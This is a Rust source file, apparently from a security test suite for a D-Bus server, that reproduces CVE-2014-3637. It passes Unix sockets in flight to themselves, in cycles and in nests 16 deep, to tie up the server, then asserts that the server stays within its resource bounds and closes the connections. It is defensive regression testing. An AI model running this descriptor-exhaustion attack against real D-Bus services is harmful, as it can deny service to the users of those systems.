//! F17: sockets in flight that refer to themselves or to their connection (CVE-2014-3637).

use std::os::fd::OwnedFd;
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::time::Duration;

use crate::attacked::{against, report};
use crate::beside::beside;
use crate::child::{say, told_to_stop, wait_for_the_end};
use crate::servers::ServerKind;
use crate::tally::Tally;
use crate::wire::{authenticate, method_call, read_message, send_fds};

pub(crate) const ATTACK: &str = "own-sockets";

/// Sockets inside sockets, each in flight in the next one.
const DEPTH: usize = 16;

/// MB that the server may grow by.
const MEMORY: f64 = 16.0;

/// Makes connections that hold themselves open, cycles of sockets, and sockets inside sockets.
pub(crate) fn attack(path: &Path) {
    let (half, whole) = (method_call("Wait", 1000, 1), method_call("Drop", 0, 1));
    let (mut own, mut cycles, mut nested) = (0, 0, 0);
    say("begins");
    while !told_to_stop() {
        // The start of a message with the own end of the connection. Nobody else has that end open.
        own += usize::from(send_one(path, &half, own_end).is_some());
        if let Some(socket) = send_one(path, &whole, |_| cycle()) {
            wait_for_answer(socket);
            cycles += 1;
        }
        if let Some(socket) = send_one(path, &whole, |_| nest()) {
            wait_for_answer(socket);
            nested += 1;
        }
        std::thread::sleep(Duration::from_millis(2));
    }
    say(format_args!("{own} own ends, {cycles} cycles, {nested} nests of {DEPTH}"));
    wait_for_the_end();
}

/// Sends a descriptor on a connection of its own. Returns `None` if the server, or the kernel for now,
/// takes it not.
fn send_one(
    path: &Path,
    bytes: &[u8],
    fd: impl FnOnce(&UnixStream) -> OwnedFd,
) -> Option<UnixStream> {
    let socket = authenticate(path).ok()?;
    send_fds(&socket, bytes, &fd(&socket), 1).ok()?;
    Some(socket)
}

fn own_end(socket: &UnixStream) -> OwnedFd {
    socket.try_clone().expect("a socket").into()
}

/// Returns a socket whose peer is in flight to it, and which is in flight to its peer.
fn cycle() -> OwnedFd {
    let (one, other) = UnixStream::pair().expect("a pair");
    // The kernel may count too many of this user.
    let _ = send_fds(&one, b".", &own_end(&other), 1);
    let _ = send_fds(&other, b".", &own_end(&one), 1);
    one.into()
}

/// Returns a socket that has another in flight, which has another in flight.
fn nest() -> OwnedFd {
    let mut inner: Option<OwnedFd> = None;
    for _ in 0..DEPTH {
        let (one, other) = UnixStream::pair().expect("a pair");
        if let Some(inner) = inner {
            let _ = send_fds(&other, b".", &inner, 1);
        }
        inner = Some(one.into());
    }
    inner.expect("at least one")
}

fn wait_for_answer(mut socket: UnixStream) {
    let _ = socket.set_read_timeout(Some(Duration::from_secs(1)));
    // The server answers with a message, or closes the connection.
    let _ = read_message(&mut socket);
}

#[test]
fn sockets_that_refer_to_themselves_are_closed() {
    let kind = ServerKind::DbusWithShortTimeouts;
    against(kind, |attacked| {
        let beside = beside(attacked, ATTACK);
        let tally = Tally::ask(&mut attacked.server);
        report("F17", format_args!("{beside}; server: {}", tally.ends));
        beside.assert_bounds(kind.most_descriptors(), MEMORY);
        let error = "the rest of a message with 1 descriptor did not arrive in time";
        assert!(tally.ends.contains(error), "no connection ended because {error}: {}", tally.ends);
        for said in &beside.said {
            assert!(!said.starts_with("0 own ends"), "{said}");
        }
    });
}
